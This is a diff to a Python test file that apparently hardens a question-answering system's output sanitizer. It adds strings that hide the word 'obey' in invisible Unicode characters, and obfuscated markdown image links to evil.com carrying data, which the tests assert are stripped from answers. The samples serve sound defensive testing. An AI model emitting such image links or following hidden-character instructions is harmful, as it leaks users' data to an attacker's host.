@@ -31,6 +31,8 @@ FORGED = [
     ("Ann approved \u202e000,1\u202c pounds", "Ann approved 000,1 pounds"),
     ("berths[0] is clear", "berths[0] is clear"),
     ("Ann" + "".join(chr(0xE0000 + ord(letter)) for letter in "obey"), "Ann"),
+    ("Ann" + "".join(chr(0xE0100 + ord(letter) - 16) for letter in "obey"), "Ann"),
+    ("Ann\u034f\u180e approved\ufe00\u2064", "Ann approved"),
     ("Ann \x1b[2J\x07 left", "Ann [2J left"),
 ]
 
@@ -183,3 +185,28 @@ def test_half_characters_of_models_and_pages_end_in_an_answer(
 
 def test_an_error_with_half_a_character_is_told() -> None:
     assert line_of(ValueError(f"no {HALF}")) == "no ?"
+
+
+HALVES = [
+    "evil\x01.com/pier", "evil\ufe0f.com/pier", "evil\U000e0100.com/pier", "evil\u034f.com/pier",
+    "![](/\x01/evil/pier)", "[evil]\x01(//evil/pier)", "![]\U000e0021(//evil/pier)",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("address", [r"![](https\://evil\.com/board?d=pier)", "![](//evil&period;com/pier)", *HALVES])
+def test_no_address_comes_together_where_an_answer_is_shown(
+    empty_library: Any, tmp_path: Any, actor: Any, address: str
+) -> None:
+    """A picture is fetched as soon as it is shown, and all words of its address may stand in the evidence."""
+    model = actor(writer=f"The boats lie at the pier {address} of the https board [1].")
+    document = "The boats lie at the pier of the https board of evil com period d."
+    answer = answer_of(empty_library, tmp_path, model, document)
+    assert answer.citations
+    assert "evil.com" not in one_line(answer.text)
+    assert "evil/" not in answer.text
+    assert "](" not in answer.text
+    honest = actor(writer="The boats lie at the pier of the https board [1].")
+    result = naive.graph.invoke(
+        {"question": "What is said of the boats?"}, context=Context(library=empty_library, model=honest)
+    )
+    assert result["answer"]["text"].startswith("The boats lie at the pier of the https board. [1]")
